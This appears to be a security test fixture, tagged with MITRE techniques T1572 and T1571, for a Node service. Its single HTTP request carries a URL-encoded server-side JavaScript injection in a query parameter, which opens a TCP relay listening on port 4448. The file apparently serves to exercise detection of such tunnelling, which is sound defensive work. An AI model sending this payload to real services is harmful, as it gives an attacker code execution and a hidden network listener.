# title: a service listens on another port itself
# attack: T1572 T1571
# workload: node
# through: http
# shows: listen tcp/4448 by node
GET http://127.0.0.1:3000/total?of=(require(%27net%27).createServer(c%3D%3Ec.pipe(require(%27net%27).connect(3000%2C%27127.0.0.1%27)).pipe(c)).listen(4448)%2C1)
